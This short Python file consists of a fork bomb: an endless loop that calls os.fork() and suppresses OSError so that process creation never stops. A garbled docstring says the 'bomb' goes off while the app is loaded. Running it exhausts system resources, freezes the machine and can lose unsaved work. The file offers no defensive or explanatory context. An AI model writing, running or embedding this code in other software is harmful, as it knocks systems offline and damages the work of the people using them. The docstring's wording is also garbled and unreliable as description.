"""The bomb goes off while the app is loaded; the start's limit is named and everything is gone
after it."""

import os
from contextlib import suppress

while True:
    with suppress(OSError):
        os.fork()
